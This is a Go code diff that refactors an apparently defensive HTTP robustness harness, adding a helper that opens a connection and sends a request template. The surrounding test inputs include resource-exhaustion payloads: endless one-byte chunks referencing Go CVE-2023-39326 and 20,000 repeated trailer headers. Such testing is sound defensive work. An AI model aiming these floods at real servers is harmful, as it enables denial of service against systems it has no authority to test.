@@ -26,6 +26,19 @@ func (a *Attacker) target(w Way) (string, error) {
 	}
 }
 
+// begin sends text, in which PATH stands for where the way takes a body, on a new connection.
+func (a *Attacker) begin(w Way, text string) (*conn, error) {
+	path, err := a.target(w)
+	if err != nil {
+		return nil, err
+	}
+	c, err := a.dial(w)
+	if err != nil {
+		return nil, err
+	}
+	return c, c.say(strings.ReplaceAll(text, "PATH", path))
+}
+
 // uploads is an input: a request with a body for where the way takes them, as it stands but for PATH.
 func uploads(name string, want func(answer) error, text string) Input {
 	return Input{name, func(a *Attacker, w Way) error {
@@ -44,15 +57,8 @@ func uploads(name string, want func(answer) error, text string) Input {
 // cutUpload is an upload of which more could come, had the client not ended its side.
 func cutUpload(name, text string) Input {
 	return Input{name, func(a *Attacker, w Way) error {
-		path, err := a.target(w)
+		c, err := a.begin(w, text)
 		if err != nil {
-			return err
-		}
-		c, err := a.dial(w)
-		if err != nil {
-			return err
-		}
-		if err := c.say(strings.ReplaceAll(text, "PATH", path)); err != nil {
 			return err
 		}
 		if err := c.tcp.CloseWrite(); err != nil && !ended(err) {
@@ -84,15 +90,8 @@ func bodies() []Family {
 			uploads("trailers without end", isSound, chunked+"1\r\nx\r\n0\r\n"+strings.Repeat("X-a: b\r\n", 20_000)+"\r\n"),
 		}},
 		one("chunks of one byte without end", "Go CVE-2023-39326", posts, func(a *Attacker, w Way) error {
-			path, err := a.target(w)
+			c, err := a.begin(w, chunked)
 			if err != nil {
-				return err
-			}
-			c, err := a.dial(w)
-			if err != nil {
-				return err
-			}
-			if err := c.say(strings.ReplaceAll(chunked, "PATH", path)); err != nil {
 				return err
 			}
 			return c.flood([]byte("1\r\nx\r\n"), a.count(50_000, 2_000_000))
